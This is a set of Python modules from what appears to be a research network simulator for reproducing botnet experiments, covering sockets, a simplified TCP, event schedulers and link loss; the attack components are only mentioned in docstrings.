        if self.loss_rate > 0.0 and self._rng is not None:
            # One Bernoulli draw per member packet, so the RNG stream is
            # identical whatever the train size; survivors travel on as
            # one (shrunk) train.
            rng = self._rng
            rate = self.loss_rate
            survivors = sum(1 for _ in range(count) if rng.random() >= rate)
            lost = count - survivors
            if lost:
                self.packets_lost += lost
                self._loss_packets.inc(lost)
                if survivors == 0:
                    return
                packet = packet.copy()
                packet.count = count = survivors
        self.packets_carried += count
        self._tx_packets.inc(count)
        self._tx_bytes.inc(packet.size * count)
        if self._tracer.enabled:
            if packet.span is not None:
                self._tracer.emit(
                    "link.tx", self.sim.now,
                    sender=sender.name, size=packet.size, count=count,
                    delay=self.delay, span=packet.span,
                )
            else:
                self._tracer.emit(
                    "link.tx", self.sim.now,
                    sender=sender.name, size=packet.size, count=count,
                    delay=self.delay,
                )
        if count > 1:
            # Last-hop propagation delay, so the sink can reconstruct
            # each member's arrival with the exact op sequence the
            # per-packet path uses (completion + delay, one add).
            packet.link_delay = self.delay
        bridge = self.shard_bridge
        if bridge is not None:
            # Sharded engine: the peer lives in another process.  All
            # sender-side accounting above already ran; the bridge ships
            # the packet (with its stamped train metadata) to the owning
            # shard, which schedules the receive at now + delay.
            bridge.carry(self, sender, packet)
            return
        # Receive events are never cancelled: fire-and-forget freelist path.
        self.sim.schedule_bare(self.delay, peer.receive, packet)
