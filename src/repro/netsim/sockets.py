"""BSD-ish socket facade for coroutine processes.

Container payloads (the shell, ``curl``, Mirai, the C&C server) interact
with the network through these sockets rather than raw transports, which
keeps payload code looking like ordinary sockets programming::

    sock = UdpSocket(node)
    sock.sendto(query, dns_server, 53)
    payload, (addr, port) = yield sock.recvfrom()

TCP sockets add generator helpers (``read_line``, ``read_exactly``,
``read_all``) intended for ``yield from`` inside process coroutines.
"""

from __future__ import annotations

from collections import deque
from typing import Deque, Optional, Tuple

from repro.netsim.address import Address, Ipv6Address
from repro.netsim.node import Node
from repro.netsim.process import SimFuture
from repro.netsim.tcp import TcpConnection, TcpListener


class SocketClosed(OSError):
    """Operation on a closed socket."""


class UdpSocket:
    """A datagram socket bound to a node's UDP transport."""

    def __init__(self, node: Node, port: int = 0):
        self.node = node
        self.sim = node.sim
        self.port = node.udp.bind(port, self._on_datagram)
        self._inbox: Deque[Tuple[Optional[bytes], Tuple[Address, int]]] = deque()
        self._waiters: Deque[SimFuture] = deque()
        self.closed = False

    def _on_datagram(self, packet, udp_header, ip_header) -> None:
        item = (packet.payload, (ip_header.src, udp_header.src_port))
        if self._waiters:
            self._waiters.popleft().succeed(item)
        else:
            self._inbox.append(item)

    def sendto(
        self,
        payload: Optional[bytes],
        address: Address,
        port: int,
        payload_size: Optional[int] = None,
    ) -> bool:
        """Send a datagram; ``payload_size`` supports virtual-size packets."""
        if self.closed:
            raise SocketClosed("sendto on closed socket")
        return self.node.udp.send_datagram(
            payload, address, port, src_port=self.port, payload_size=payload_size
        )

    def recvfrom(self) -> SimFuture:
        """Future resolving with ``(payload, (source_address, source_port))``."""
        if self.closed:
            raise SocketClosed("recvfrom on closed socket")
        future = SimFuture(self.sim)
        if self._inbox:
            future.succeed(self._inbox.popleft())
        else:
            self._waiters.append(future)
        return future

    def cancel_waiter(self, future: SimFuture) -> None:
        """Withdraw a pending :meth:`recvfrom` future (timeout cleanup) so
        a later datagram is not silently swallowed by a stale waiter."""
        try:
            self._waiters.remove(future)
        except ValueError:
            pass

    def join_multicast(self, group: Ipv6Address) -> None:
        self.node.ip.join_multicast(group)

    def close(self) -> None:
        if self.closed:
            return
        self.closed = True
        self.node.udp.unbind(self.port)
        while self._waiters:
            self._waiters.popleft().fail(SocketClosed("socket closed"))


class TcpSocket:
    """A stream socket wrapping a :class:`TcpConnection`."""

    def __init__(self, node: Node, connection: TcpConnection):
        self.node = node
        self.sim = node.sim
        self.connection = connection
        self._buffer = bytearray()
        self._eof = False

    # ------------------------------------------------------------------
    # Establishment
    # ------------------------------------------------------------------
    @classmethod
    def connect(cls, node: Node, address: Address, port: int) -> "TcpSocket":
        """Begin connecting; wait on :meth:`wait_connected` before I/O."""
        connection = node.tcp.connect(address, port)
        return cls(node, connection)

    def wait_connected(self) -> SimFuture:
        """Future resolving when the three-way handshake completes."""
        if self.connection.established:
            future = SimFuture(self.sim)
            future.succeed(self)
            return future
        assert self.connection.connect_future is not None
        return self.connection.connect_future

    # ------------------------------------------------------------------
    # I/O
    # ------------------------------------------------------------------
    @property
    def peer(self) -> Tuple[Address, int]:
        return (self.connection.remote_addr, self.connection.remote_port)

    def send(self, data: bytes) -> None:
        self.connection.send(data)

    def send_line(self, line: str) -> None:
        self.connection.send(line.encode() + b"\n")

    def recv(self) -> SimFuture:
        """Future resolving with the next chunk (``b""`` at EOF)."""
        if self._buffer:
            future = SimFuture(self.sim)
            chunk = bytes(self._buffer)
            self._buffer.clear()
            future.succeed(chunk)
            return future
        return self.connection.recv()

    # Generator helpers: use with ``yield from`` inside a SimProcess.
    def read_line(self):
        """Read one ``\\n``-terminated line (newline stripped).

        Returns ``None`` at EOF with no buffered data.
        """
        while b"\n" not in self._buffer:
            chunk = yield self.connection.recv()
            if chunk == b"":
                self._eof = True
                if self._buffer:
                    line = bytes(self._buffer)
                    self._buffer.clear()
                    return line
                return None
            self._buffer.extend(chunk)
        line, _, rest = bytes(self._buffer).partition(b"\n")
        self._buffer[:] = rest
        return line.rstrip(b"\r")

    def read_exactly(self, count: int):
        """Read exactly ``count`` bytes (raises EOFError on early close)."""
        while len(self._buffer) < count:
            chunk = yield self.connection.recv()
            if chunk == b"":
                raise EOFError(f"EOF after {len(self._buffer)}/{count} bytes")
            self._buffer.extend(chunk)
        data = bytes(self._buffer[:count])
        del self._buffer[:count]
        return data

    def read_all(self):
        """Read until the peer closes; returns everything."""
        while True:
            chunk = yield self.connection.recv()
            if chunk == b"":
                data = bytes(self._buffer)
                self._buffer.clear()
                return data
            self._buffer.extend(chunk)

    def close(self) -> None:
        self.connection.close()

    def abort(self) -> None:
        self.connection.abort()


class TcpServerSocket:
    """A listening socket yielding :class:`TcpSocket` per accepted peer."""

    def __init__(self, node: Node, port: int):
        self.node = node
        self.sim = node.sim
        self.port = port
        self.listener: TcpListener = node.tcp.listen(port)

    def accept(self) -> SimFuture:
        """Future resolving with a connected :class:`TcpSocket`."""
        future = SimFuture(self.sim)

        def _wrap(inner: SimFuture) -> None:
            if inner.error is not None:
                future.fail(inner.error)
            else:
                future.succeed(TcpSocket(self.node, inner.value))

        self.listener.accept().add_callback(_wrap)
        return future

    def close(self) -> None:
        self.listener.close()
