"""Pluggable event schedulers for the discrete-event simulator.

NS-3 ships several ``Scheduler`` implementations (binary heap, linked
list, calendar queue, ...) behind one interface because no single
structure wins every workload: a binary heap is O(log n) everywhere,
while a calendar queue (Brown 1988, the NS-3 ``CalendarScheduler``) is
amortized O(1) when event times are roughly uniform — exactly the shape
of a flood run, where thousands of paced emitters schedule into a narrow
sliding window of virtual time.

This module provides the same choice for :class:`repro.netsim.simulator.
Simulator`:

* :class:`HeapScheduler` — the default ``heapq`` binary heap (the seed
  behaviour; the simulator inlines its hot loop).
* :class:`CalendarScheduler` — bucketed calendar queue with automatic
  resize and width re-estimation.

Both order events by the full ``(time, seq)`` key, so **any** scheduler
produces the identical event sequence for the same workload — runs are
deterministic and scheduler choice is purely a performance knob
(asserted by ``tests/test_scheduler.py``).

Schedulers store, but do not interpret, cancelled events: cancellation
is a tombstone flag on the event; the simulator accounts live counts and
asks the scheduler to :meth:`~HeapScheduler.remove_cancelled` when
tombstones pile up (heavy retransmit/churn cancellation would otherwise
bloat the queue).
"""

from __future__ import annotations

import heapq
from bisect import insort
from typing import List, Optional

#: registered scheduler names (the ``SimulationConfig.scheduler`` /
#: ``repro run --scheduler`` choices)
SCHEDULER_NAMES = ("heap", "calendar")


class HeapScheduler:
    """Binary-heap scheduler: the classic ``heapq`` priority queue."""

    name = "heap"

    __slots__ = ("_heap",)

    def __init__(self) -> None:
        self._heap: List = []

    def __len__(self) -> int:
        return len(self._heap)

    def push(self, event) -> None:
        heapq.heappush(self._heap, event)

    def peek(self):
        """Earliest event (cancelled included), or None when empty."""
        return self._heap[0] if self._heap else None

    def pop_next(self, limit: Optional[float] = None):
        """Pop and return the earliest event, or None when the queue is
        empty or the earliest event lies beyond ``limit``."""
        heap = self._heap
        if not heap:
            return None
        event = heap[0]
        if limit is not None and event.time > limit:
            return None
        heapq.heappop(heap)
        return event

    def drop_cancelled_head(self) -> int:
        """Discard cancelled events at the front; returns how many."""
        heap = self._heap
        removed = 0
        while heap and heap[0].cancelled:
            heapq.heappop(heap)
            removed += 1
        return removed

    def remove_cancelled(self) -> int:
        """Compaction: drop every cancelled tombstone; returns how many.

        Rebuilds in place so aliases of the backing list stay valid.
        """
        heap = self._heap
        before = len(heap)
        heap[:] = [event for event in heap if not event.cancelled]
        heapq.heapify(heap)
        return before - len(heap)

    def events(self):
        """Every queued event, tombstones included, in no particular
        order (checkpoint fingerprints sort by the (time, seq) key)."""
        return iter(self._heap)


class CalendarScheduler:
    """NS-3-style calendar queue: an array of time buckets.

    Events hash into ``bucket = floor(time / width) % n_buckets``; each
    bucket keeps its events sorted.  A cursor walks the buckets in
    "year" order (one year = ``n_buckets * width`` of virtual time), so
    with a well-chosen width both push and pop touch O(1) events.  The
    queue resizes (doubling/halving buckets, re-estimating the width
    from observed event spacing) as the population grows and shrinks.

    Ordering is the full ``(time, seq)`` event key: equal times always
    land in the same bucket, where ``insort`` keeps FIFO tie order —
    the dequeue sequence is bit-identical to :class:`HeapScheduler`.
    """

    name = "calendar"

    __slots__ = ("_buckets", "_n", "_width", "_count", "_vbucket", "_min_n")

    def __init__(self, width: float = 0.001, n_buckets: int = 32) -> None:
        if width <= 0:
            raise ValueError("bucket width must be positive")
        if n_buckets < 2:
            raise ValueError("need at least two buckets")
        self._min_n = n_buckets
        self._n = n_buckets
        self._buckets: List[List] = [[] for _ in range(n_buckets)]
        self._width = width
        self._count = 0
        #: virtual (un-wrapped) bucket index of the scan cursor; events
        #: are never scheduled before the last dequeued time, so the
        #: cursor only moves forward.
        self._vbucket = 0

    def __len__(self) -> int:
        return self._count

    # ------------------------------------------------------------------
    # Core operations
    # ------------------------------------------------------------------
    def push(self, event) -> None:
        index = int(event.time / self._width) % self._n
        insort(self._buckets[index], event)
        self._count += 1
        if self._count > (self._n << 1):
            self._resize(self._n << 1)

    def _find_next(self):
        """(bucket_list, event, vbucket) of the earliest event, or None.

        Scans at most one full year from the cursor; if every queued
        event lies further out (sparse far-future tail), falls back to a
        direct min scan over bucket heads.
        """
        if self._count == 0:
            return None
        buckets = self._buckets
        n = self._n
        width = self._width
        vbucket = self._vbucket
        for _ in range(n):
            bucket = buckets[vbucket % n]
            if bucket:
                event = bucket[0]
                # One multiply, no accumulated float drift: an event
                # belongs to virtual bucket floor(time/width).
                if event.time < (vbucket + 1) * width:
                    return bucket, event, vbucket
            vbucket += 1
        # Nothing within a year of the cursor: direct search.
        best = None
        for bucket in buckets:
            if bucket and (best is None or bucket[0] < best):
                best = bucket[0]
        assert best is not None  # count > 0 guarantees it
        return buckets[int(best.time / width) % n], best, int(best.time / width)

    def peek(self):
        """Earliest event (cancelled included), or None when empty."""
        found = self._find_next()
        if found is None:
            return None
        _bucket, event, vbucket = found
        self._vbucket = vbucket  # cursor advance over empty buckets is free
        return event

    def pop_next(self, limit: Optional[float] = None):
        """Pop and return the earliest event, or None when the queue is
        empty or the earliest event lies beyond ``limit``."""
        found = self._find_next()
        if found is None:
            return None
        bucket, event, vbucket = found
        self._vbucket = vbucket
        if limit is not None and event.time > limit:
            return None
        bucket.pop(0)
        self._count -= 1
        if self._count < (self._n >> 2) and self._n > self._min_n:
            self._resize(max(self._n >> 1, self._min_n))
        return event

    def drop_cancelled_head(self) -> int:
        """Discard cancelled events at the front; returns how many."""
        removed = 0
        while True:
            found = self._find_next()
            if found is None or not found[1].cancelled:
                return removed
            bucket, _event, vbucket = found
            self._vbucket = vbucket
            bucket.pop(0)
            self._count -= 1
            removed += 1

    def remove_cancelled(self) -> int:
        """Compaction: drop every cancelled tombstone; returns how many."""
        removed = 0
        for bucket in self._buckets:
            before = len(bucket)
            bucket[:] = [event for event in bucket if not event.cancelled]
            removed += before - len(bucket)
        self._count -= removed
        return removed

    def events(self):
        """Every queued event, tombstones included, in no particular
        order (checkpoint fingerprints sort by the (time, seq) key)."""
        for bucket in self._buckets:
            for event in bucket:
                yield event

    # ------------------------------------------------------------------
    # Resizing
    # ------------------------------------------------------------------
    def _estimate_width(self, events) -> float:
        """New bucket width from the spacing of the nearest events —
        aim for ~1 event per bucket near the head of the queue."""
        sample = events[: min(len(events), 64)]
        gaps = [
            later.time - earlier.time
            for earlier, later in zip(sample, sample[1:])
            if later.time > earlier.time
        ]
        if not gaps:
            return self._width
        mean_gap = sum(gaps) / len(gaps)
        # Brown's heuristic: a few mean gaps per bucket.
        return max(mean_gap * 2.0, 1e-9)

    def _resize(self, n_buckets: int) -> None:
        events = [event for bucket in self._buckets for event in bucket]
        events.sort()
        self._width = self._estimate_width(events)
        self._n = n_buckets
        self._buckets = [[] for _ in range(n_buckets)]
        width = self._width
        for event in events:
            self._buckets[int(event.time / width) % n_buckets].append(event)
        # Rebucketed events arrive pre-sorted, so each bucket stays sorted.
        self._vbucket = int(events[0].time / width) if events else 0


def make_scheduler(name: str):
    """Instantiate a scheduler by registry name (``SCHEDULER_NAMES``)."""
    if name == "heap":
        return HeapScheduler()
    if name == "calendar":
        return CalendarScheduler()
    raise ValueError(
        f"unknown scheduler {name!r}; choose from {SCHEDULER_NAMES}"
    )
