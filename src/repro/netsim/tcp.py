"""A simplified but real TCP: handshake, go-back-N reliability, teardown.

The botnet control plane rides on this transport: Mirai bots dial the C&C
server over TCP, the operator's telnet console is a TCP session, and the
Apache-analogue file server speaks HTTP/1.0 over TCP.  Those flows need a
reliable, in-order byte stream that survives congestion loss on the
simulated Internet — which go-back-N with cumulative ACKs and an RTO
provides — without needing full congestion control.

Simplifications relative to RFC 793 (documented, deliberate):

* fixed-size send window (segment count), no slow start / cwnd;
* one retransmission timer covering the oldest unacked segment, go-back-N
  resend on expiry, exponential backoff;
* no simultaneous-open, no TIME_WAIT (close removes demux state once both
  directions are done);
* sequence numbers start at 0 per-connection and do not wrap (connections
  in these experiments move well under 2**32 bytes).
"""

from __future__ import annotations

from typing import Deque, Dict, Optional, Tuple, TYPE_CHECKING
from collections import deque

from repro.netsim.address import Address
from repro.netsim.headers import (
    PROTO_TCP,
    TCP_ACK,
    TCP_FIN,
    TCP_RST,
    TCP_SYN,
    TcpHeader,
)
from repro.netsim.packet import Packet
from repro.netsim.process import SimFuture

if TYPE_CHECKING:  # pragma: no cover - typing only
    from repro.netsim.ip import IpStack

MSS = 1200
SEND_WINDOW_SEGMENTS = 8
INITIAL_RTO = 1.0
MAX_RTO = 16.0
MAX_RETRIES = 8

# Connection states.
CLOSED = "CLOSED"
LISTEN = "LISTEN"
SYN_SENT = "SYN_SENT"
SYN_RCVD = "SYN_RCVD"
ESTABLISHED = "ESTABLISHED"
FIN_WAIT = "FIN_WAIT"
CLOSE_WAIT = "CLOSE_WAIT"


class ConnectionRefused(ConnectionError):
    """Peer answered the SYN with RST (no listener on that port)."""


class ConnectionReset(ConnectionError):
    """Connection was reset mid-stream (RST or retry exhaustion)."""


class NetworkUnreachable(ConnectionError):
    """The node has no usable source address (e.g. churned offline
    mid-connect) — a ``ConnectionError`` so callers' recovery paths
    catch it instead of dying."""


class TcpListener:
    """A passive socket: queues established connections for ``accept``."""

    def __init__(self, tcp: "Tcp", port: int):
        self.tcp = tcp
        self.port = port
        self.backlog: Deque["TcpConnection"] = deque()
        self._accept_waiters: Deque[SimFuture] = deque()
        self.closed = False

    def accept(self) -> SimFuture:
        """Future resolving with the next established :class:`TcpConnection`."""
        future = SimFuture(self.tcp.ip.sim)
        if self.backlog:
            future.succeed(self.backlog.popleft())
        elif self.closed:
            future.fail(ConnectionReset("listener closed"))
        else:
            self._accept_waiters.append(future)
        return future

    def _connection_ready(self, connection: "TcpConnection") -> None:
        if self._accept_waiters:
            self._accept_waiters.popleft().succeed(connection)
        else:
            self.backlog.append(connection)

    def close(self) -> None:
        self.closed = True
        self.tcp.listeners.pop(self.port, None)
        while self._accept_waiters:
            self._accept_waiters.popleft().fail(ConnectionReset("listener closed"))


class TcpConnection:
    """One TCP connection endpoint."""

    def __init__(
        self,
        tcp: "Tcp",
        local_addr: Address,
        local_port: int,
        remote_addr: Address,
        remote_port: int,
    ):
        self.tcp = tcp
        self.sim = tcp.ip.sim
        self.local_addr = local_addr
        self.local_port = local_port
        self.remote_addr = remote_addr
        self.remote_port = remote_port
        self.state = CLOSED
        # Send side.
        self._pending = bytearray()
        self._inflight: Deque[Tuple[int, bytes]] = deque()
        self.snd_nxt = 0
        self.snd_una = 0
        self._fin_queued = False
        self._fin_sent = False
        self._fin_acked = False
        # Receive side.
        self.rcv_nxt = 0
        self._out_of_order: Dict[int, bytes] = {}
        self._recv_buffer = bytearray()
        self._recv_waiters: Deque[SimFuture] = deque()
        self.remote_closed = False
        # Timers / futures.
        self._rto = INITIAL_RTO
        self._retries = 0
        self._timer = None
        self.connect_future: Optional[SimFuture] = None
        # Stats.
        self.bytes_sent = 0
        self.bytes_received = 0
        self.retransmissions = 0

    # ------------------------------------------------------------------
    # Public API (used by the sockets facade)
    # ------------------------------------------------------------------
    @property
    def established(self) -> bool:
        return self.state == ESTABLISHED

    @property
    def closed(self) -> bool:
        return self.state == CLOSED

    def send(self, data: bytes) -> None:
        """Queue ``data`` for reliable in-order delivery to the peer."""
        if self.state not in (ESTABLISHED, CLOSE_WAIT):
            raise ConnectionReset(f"send on {self.state} connection")
        if self._fin_queued:
            raise ConnectionReset("send after close")
        self._pending.extend(data)
        self._pump()

    def recv(self) -> SimFuture:
        """Future resolving with the next chunk of in-order bytes.

        Resolves with ``b""`` exactly once the peer has closed and the
        buffer is drained (EOF semantics).
        """
        future = SimFuture(self.sim)
        if self._recv_buffer:
            chunk = bytes(self._recv_buffer)
            self._recv_buffer.clear()
            future.succeed(chunk)
        elif self.remote_closed or self.state == CLOSED:
            future.succeed(b"")
        else:
            self._recv_waiters.append(future)
        return future

    def close(self) -> None:
        """Half-close our direction after all pending data is delivered."""
        if self.state in (CLOSED,) or self._fin_queued:
            return
        self._fin_queued = True
        self._pump()

    def abort(self, reason: str = "reset") -> None:
        """Hard reset: notify the peer with RST and tear down."""
        if self.state != CLOSED:
            self._emit_segment(TCP_RST, seq=self.snd_nxt)
        self._teardown(ConnectionReset(reason))

    # ------------------------------------------------------------------
    # Handshake
    # ------------------------------------------------------------------
    def start_connect(self) -> SimFuture:
        self.connect_future = SimFuture(self.sim)
        self.state = SYN_SENT
        self._emit_segment(TCP_SYN, seq=self.snd_nxt)
        self.snd_nxt += 1  # SYN consumes one sequence number
        self._arm_timer()
        return self.connect_future

    def _accept_syn(self, header: TcpHeader) -> None:
        self.state = SYN_RCVD
        self.rcv_nxt = header.seq + 1
        self._emit_segment(TCP_SYN | TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)
        self.snd_nxt += 1
        self._arm_timer()

    # ------------------------------------------------------------------
    # Segment processing
    # ------------------------------------------------------------------
    def handle_segment(self, packet: Packet, header: TcpHeader) -> None:
        flags = header.flags
        if flags & TCP_RST:
            self._handle_rst()
            return
        if self.state == SYN_SENT:
            if flags & TCP_SYN and flags & TCP_ACK and header.ack == self.snd_nxt:
                self.rcv_nxt = header.seq + 1
                self.snd_una = header.ack
                self._cancel_timer()
                self.state = ESTABLISHED
                self._emit_segment(TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)
                if self.connect_future is not None and not self.connect_future.done:
                    self.connect_future.succeed(self)
                self._pump()
            return
        if self.state == SYN_RCVD:
            if flags & TCP_SYN and not (flags & TCP_ACK):
                # Retransmitted SYN: re-send our SYN|ACK.
                self._emit_segment(TCP_SYN | TCP_ACK, seq=self.snd_nxt - 1, ack=self.rcv_nxt)
                return
            if flags & TCP_ACK and header.ack == self.snd_nxt:
                self.snd_una = header.ack
                self._cancel_timer()
                self.state = ESTABLISHED
                listener = self.tcp.listeners.get(self.local_port)
                if listener is not None:
                    listener._connection_ready(self)
            # fall through: the ACK may carry data
        if flags & TCP_ACK:
            self._process_ack(header.ack)
        payload = packet.payload or b""
        if payload:
            self._process_data(header.seq, payload)
        if flags & TCP_FIN:
            self._process_fin(header.seq + len(payload))

    def _handle_rst(self) -> None:
        error: ConnectionError = ConnectionReset("connection reset by peer")
        if self.state == SYN_SENT:
            error = ConnectionRefused(
                f"connection to {self.remote_addr}:{self.remote_port} refused"
            )
        self._teardown(error)

    def _process_ack(self, ack: int) -> None:
        if ack <= self.snd_una:
            return
        self.snd_una = ack
        while self._inflight and self._inflight[0][0] + len(self._inflight[0][1]) <= ack:
            self._inflight.popleft()
        if self._fin_sent and ack >= self.snd_nxt:
            self._fin_acked = True
        self._retries = 0
        self._rto = INITIAL_RTO
        self._cancel_timer()
        if self._inflight or (self._fin_sent and not self._fin_acked):
            self._arm_timer()
        self._pump()
        self._maybe_finish_close()

    def _process_data(self, seq: int, payload: bytes) -> None:
        if seq + len(payload) <= self.rcv_nxt:
            # Duplicate; re-ACK so the sender advances.
            self._emit_segment(TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)
            return
        if seq > self.rcv_nxt:
            self._out_of_order[seq] = payload
        else:
            offset = self.rcv_nxt - seq
            self._append_received(payload[offset:])
            # Drain any now-contiguous out-of-order segments.
            while self.rcv_nxt in self._out_of_order:
                chunk = self._out_of_order.pop(self.rcv_nxt)
                self._append_received(chunk)
        self._emit_segment(TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)

    def _append_received(self, chunk: bytes) -> None:
        self.rcv_nxt += len(chunk)
        self.bytes_received += len(chunk)
        self._recv_buffer.extend(chunk)
        self._wake_receivers()

    def _wake_receivers(self) -> None:
        while self._recv_waiters and self._recv_buffer:
            chunk = bytes(self._recv_buffer)
            self._recv_buffer.clear()
            self._recv_waiters.popleft().succeed(chunk)
        if self.remote_closed:
            while self._recv_waiters:
                self._recv_waiters.popleft().succeed(b"")

    def _process_fin(self, fin_seq: int) -> None:
        if self.remote_closed:
            self._emit_segment(TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)
            return
        if fin_seq != self.rcv_nxt:
            return  # FIN beyond a hole; wait for retransmission
        self.rcv_nxt += 1
        self.remote_closed = True
        if self.state == ESTABLISHED:
            self.state = CLOSE_WAIT
        self._emit_segment(TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)
        self._wake_receivers()
        self._maybe_finish_close()

    # ------------------------------------------------------------------
    # Send machinery
    # ------------------------------------------------------------------
    def _pump(self) -> None:
        if self.state not in (ESTABLISHED, CLOSE_WAIT, FIN_WAIT):
            return
        while self._pending and len(self._inflight) < SEND_WINDOW_SEGMENTS:
            chunk = bytes(self._pending[:MSS])
            del self._pending[: len(chunk)]
            self._inflight.append((self.snd_nxt, chunk))
            self._emit_segment(
                TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt, payload=chunk
            )
            self.snd_nxt += len(chunk)
            self.bytes_sent += len(chunk)
        if self._fin_queued and not self._fin_sent and not self._pending:
            self._emit_segment(TCP_FIN | TCP_ACK, seq=self.snd_nxt, ack=self.rcv_nxt)
            self.snd_nxt += 1  # FIN consumes a sequence number
            self._fin_sent = True
            if self.state == ESTABLISHED:
                self.state = FIN_WAIT
        if self._inflight or (self._fin_sent and not self._fin_acked):
            if self._timer is None:
                self._arm_timer()

    def _emit_segment(
        self,
        flags: int,
        seq: int,
        ack: int = 0,
        payload: bytes = b"",
    ) -> None:
        packet = Packet(payload or None, created_at=self.sim.now)
        packet.add_header(
            TcpHeader(self.local_port, self.remote_port, seq=seq, ack=ack, flags=flags)
        )
        self.tcp.ip.send(packet, self.remote_addr, PROTO_TCP, self.local_addr)

    # ------------------------------------------------------------------
    # Timers
    # ------------------------------------------------------------------
    def _arm_timer(self) -> None:
        self._cancel_timer()
        self._timer = self.sim.schedule(self._rto, self._on_timeout)

    def _cancel_timer(self) -> None:
        if self._timer is not None:
            self._timer.cancel()
            self._timer = None

    def _on_timeout(self) -> None:
        self._timer = None
        self._retries += 1
        if self._retries > MAX_RETRIES:
            self._teardown(ConnectionReset("retransmission retries exhausted"))
            return
        self._rto = min(self._rto * 2.0, MAX_RTO)
        resent_before = self.retransmissions
        if self.state == SYN_SENT:
            self._emit_segment(TCP_SYN, seq=self.snd_nxt - 1)
            self.retransmissions += 1
        elif self.state == SYN_RCVD:
            self._emit_segment(TCP_SYN | TCP_ACK, seq=self.snd_nxt - 1, ack=self.rcv_nxt)
            self.retransmissions += 1
        else:
            # Go-back-N: resend everything unacked.
            for seq, chunk in self._inflight:
                self._emit_segment(TCP_ACK, seq=seq, ack=self.rcv_nxt, payload=chunk)
                self.retransmissions += 1
            if self._fin_sent and not self._fin_acked:
                self._emit_segment(TCP_FIN | TCP_ACK, seq=self.snd_nxt - 1, ack=self.rcv_nxt)
                self.retransmissions += 1
        resent = self.retransmissions - resent_before
        if resent:
            self.tcp._retx_counter.inc(resent)
            tracer = self.tcp._tracer
            if tracer.enabled:
                tracer.emit(
                    "tcp.retransmit", self.sim.now,
                    local=f"{self.local_addr}:{self.local_port}",
                    remote=f"{self.remote_addr}:{self.remote_port}",
                    state=self.state, segments=resent,
                    retries=self._retries, rto=self._rto,
                )
        self._arm_timer()

    # ------------------------------------------------------------------
    # Teardown
    # ------------------------------------------------------------------
    def _maybe_finish_close(self) -> None:
        if self.remote_closed and self._fin_acked:
            self._teardown(None)

    def _teardown(self, error: Optional[ConnectionError]) -> None:
        if self.state == CLOSED:
            return
        self.state = CLOSED
        self._cancel_timer()
        self.tcp._forget(self)
        if self.connect_future is not None and not self.connect_future.done:
            self.connect_future.fail(error or ConnectionReset("closed"))
        self.remote_closed = True
        if error is None:
            self._wake_receivers()
        else:
            while self._recv_waiters:
                self._recv_waiters.popleft().fail(error)

    def __repr__(self) -> str:  # pragma: no cover - debug helper
        return (
            f"<TcpConnection {self.local_addr}:{self.local_port} <-> "
            f"{self.remote_addr}:{self.remote_port} {self.state}>"
        )


class Tcp:
    """Per-node TCP: demux, listeners, active opens."""

    def __init__(self, ip: "IpStack"):
        self.ip = ip
        self.listeners: Dict[int, TcpListener] = {}
        self.connections: Dict[Tuple[int, Address, int], TcpConnection] = {}
        self._next_ephemeral = 49152
        self.rst_sent = 0
        obs = ip.sim.obs
        self._tracer = obs.tracer
        self._retx_counter = obs.metrics.counter(
            "tcp_retransmissions_total",
            help="TCP segments retransmitted (go-back-N resends included)",
        )

    # ------------------------------------------------------------------
    # API
    # ------------------------------------------------------------------
    def listen(self, port: int) -> TcpListener:
        if port in self.listeners:
            raise OSError(f"{self.ip.node.name}: TCP port {port} already listening")
        listener = TcpListener(self, port)
        self.listeners[port] = listener
        return listener

    def connect(
        self,
        remote_addr: Address,
        remote_port: int,
        local_port: int = 0,
        source: Optional[Address] = None,
    ) -> TcpConnection:
        """Begin an active open; wait on ``connection.connect_future``."""
        if local_port == 0:
            local_port = self._allocate_port(remote_addr, remote_port)
        from repro.netsim.address import Ipv6Address

        local_addr = source or self.ip.primary_address(
            want_ipv6=isinstance(remote_addr, Ipv6Address)
        )
        if local_addr is None:
            raise NetworkUnreachable(
                f"{self.ip.node.name} has no usable source address"
            )
        connection = TcpConnection(self, local_addr, local_port, remote_addr, remote_port)
        key = (local_port, remote_addr, remote_port)
        if key in self.connections:
            raise OSError(f"{self.ip.node.name}: connection {key} already exists")
        self.connections[key] = connection
        connection.start_connect()
        return connection

    def _allocate_port(self, remote_addr: Address, remote_port: int) -> int:
        while (self._next_ephemeral, remote_addr, remote_port) in self.connections:
            self._next_ephemeral += 1
        port = self._next_ephemeral
        self._next_ephemeral += 1
        return port

    # ------------------------------------------------------------------
    # Demux
    # ------------------------------------------------------------------
    def receive(self, packet: Packet, ip_header) -> None:
        header = packet.remove_header(TcpHeader)
        key = (header.dst_port, ip_header.src, header.src_port)
        connection = self.connections.get(key)
        if connection is not None:
            connection.handle_segment(packet, header)
            return
        if header.flags & TCP_SYN and not (header.flags & TCP_ACK):
            listener = self.listeners.get(header.dst_port)
            if listener is not None and not listener.closed:
                connection = TcpConnection(
                    self, ip_header.dst, header.dst_port, ip_header.src, header.src_port
                )
                self.connections[key] = connection
                connection._accept_syn(header)
                return
        if not header.flags & TCP_RST:
            self._send_rst(ip_header, header)

    def _send_rst(self, ip_header, header: TcpHeader) -> None:
        self.rst_sent += 1
        packet = Packet(created_at=self.ip.sim.now)
        packet.add_header(
            TcpHeader(
                header.dst_port,
                header.src_port,
                seq=header.ack,
                ack=header.seq + 1,
                flags=TCP_RST | TCP_ACK,
            )
        )
        self.ip.send(packet, ip_header.src, PROTO_TCP, ip_header.dst)

    def _forget(self, connection: TcpConnection) -> None:
        key = (connection.local_port, connection.remote_addr, connection.remote_port)
        existing = self.connections.get(key)
        if existing is connection:
            del self.connections[key]
