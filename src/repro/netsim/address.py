"""Network addresses: MAC, IPv4 and IPv6 (with multicast support).

The paper stresses that DDoSim added IPv6 support to NS3DockerEmulator
because Dnsmasq's CVE-2017-14493 lives in the DHCPv6 module and DHCPv6
exploit delivery needs IPv6 *multicast* (there is no broadcast in IPv6).
This module therefore implements both families from scratch, including the
``ff02::1:2`` All-DHCP-Relay-Agents-and-Servers group used by the attack.

Addresses are small immutable value objects wrapping an integer, cheap to
hash and compare (they are used as routing-table keys on the hot path).
"""

from __future__ import annotations

from typing import Iterator, Tuple, Union


class AddressError(ValueError):
    """Raised for malformed textual or numeric addresses."""


class _IntAddress:
